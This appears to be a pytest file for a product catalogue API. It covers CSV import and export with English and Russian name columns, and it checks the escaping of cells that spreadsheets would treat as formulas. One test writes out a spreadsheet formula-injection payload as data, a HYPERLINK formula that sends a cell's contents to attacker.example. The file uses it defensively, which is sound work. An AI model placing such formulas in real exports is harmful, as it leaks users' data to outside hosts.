"""CSV per language (name_en, name_ru, ...) and cells no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io

import httpx
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from vitrina.catalog.csv_cells import escape_cell, unescape_cell
from vitrina.catalog.models import Product

IMPORT, EXPORT = "/api/v1/products/import", "/api/v1/products/export"


def _csv(text: str) -> dict[str, tuple[str, bytes, str]]:
    return {"file": ("products.csv", text.encode(), "text/csv")}


async def _export(client: httpx.AsyncClient, headers: dict[str, str]) -> list[dict[str, str]]:
    exported = await client.get(EXPORT, headers=headers)
    assert exported.status_code == 200
    return list(csv.DictReader(io.StringIO(exported.text)))


async def test_names_per_language_import_export_and_import_again_unchanged(
    client: httpx.AsyncClient, staff_headers: dict[str, str], make_category, session: AsyncSession
) -> None:
    await make_category(name="Audio")
    text = (
        "name_en,name_ru,description_en,description_ru,slug_ru,price,category,sku\n"
        "Studio Headphones,Студийные наушники,Closed back.,Закрытые.,,9900,audio,H-1\n"
        "Desk Speaker,,Small.,,,4900,audio,S-1\n"
    )
    created = await client.post(IMPORT, files=_csv(text), headers=staff_headers)
    assert created.status_code == 200, created.text
    russian = await client.get("/api/v1/products/студийные-наушники", params={"lang": "ru"})
    assert russian.status_code == 200, russian.text
    body = russian.json()
    assert (body["name"], body["description"]) == ("Студийные наушники", "Закрытые.")
    assert body["slugs"] == {"en": "studio-headphones", "ru": "студийные-наушники"}

    rows = await _export(client, staff_headers)
    assert [(r["name_en"], r["name_ru"], r["slug_ru"]) for r in rows] == [
        ("Studio Headphones", "Студийные наушники", "студийные-наушники"),
        ("Desk Speaker", "", ""),
    ]
    versions = (await session.scalars(select(Product.sync_version).order_by(Product.id))).all()
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    again = await client.post(IMPORT, files=_csv(out.getvalue()), headers=staff_headers)
    assert again.json() == {"rows": 2, "created": 0, "updated": 2, "errors": []}
    session.expunge_all()
    assert (
        await session.scalars(select(Product.sync_version).order_by(Product.id))
    ).all() == versions
    assert await _export(client, staff_headers) == rows


async def test_an_empty_language_cell_removes_that_text_and_a_missing_column_keeps_it(
    client: httpx.AsyncClient, staff_headers: dict[str, str], make_category
) -> None:
    await make_category(name="Audio")
    first = "name,name_ru,price,category,sku\nSpeaker,Колонка,100,audio,S-1\n"
    assert (await client.post(IMPORT, files=_csv(first), headers=staff_headers)).is_success
    keep = "name,price,category,sku\nSpeaker,200,audio,S-1\n"
    assert (await client.post(IMPORT, files=_csv(keep), headers=staff_headers)).is_success
    assert (await _export(client, staff_headers))[0]["name_ru"] == "Колонка"
    remove = "name,name_ru,price,category,sku\nSpeaker,,200,audio,S-1\n"
    assert (await client.post(IMPORT, files=_csv(remove), headers=staff_headers)).is_success
    row = (await _export(client, staff_headers))[0]
    assert (row["name_ru"], row["slug_ru"]) == ("", "")


async def test_name_and_its_language_column_must_agree(
    client: httpx.AsyncClient, staff_headers: dict[str, str], make_category
) -> None:
    await make_category(name="Audio")
    text = "name,name_en,price,category\nSpeaker,Loudspeaker,100,audio\n"
    response = await client.post(IMPORT, files=_csv(text), headers=staff_headers)
    assert response.status_code == 422
    assert "name_en" in response.json()["detail"]["errors"][0]["errors"][0]


async def test_export_cells_never_run_as_formulas_and_import_restores_them(
    client: httpx.AsyncClient, staff_headers: dict[str, str], make_category
) -> None:
    category = await make_category(name="Audio")
    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for a discount")'
    names = [hostile, "+1 cable", "-5% bundle", "@SUM(1+1)", "'=already quoted", "'plain"]
    for name in names:
        response = await client.post(
            "/api/v1/products",
            json={"name": name, "price": 100, "category_id": category.id, "description": "\tx"},
            headers=staff_headers,
        )
        assert response.status_code == 201, response.text
    exported = (await client.get(EXPORT, headers=staff_headers)).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:
        for column, cell in row.items():
            if column not in ("price", "stock", "id"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert rows[0]["name_en"] == "'" + hostile
    assert rows[0]["description_en"] == "'\tx"
    assert [r["name_en"] for r in rows][4:] == ["''=already quoted", "'plain"]

    again = await client.post(IMPORT, files=_csv(exported), headers=staff_headers)
    assert again.json()["updated"] == len(names), again.text
    listed = await client.get("/api/v1/products", params={"sort": "newest", "limit": 10})
    assert sorted(p["name"] for p in listed.json()["items"]) == sorted(names)


def test_escaping_reverses_exactly() -> None:
    for value in ("=1", "''=1", "'", "''", "-", "'-", "a=b", "", "\r\n", "'\t"):
        assert unescape_cell(escape_cell(value)) == value, value
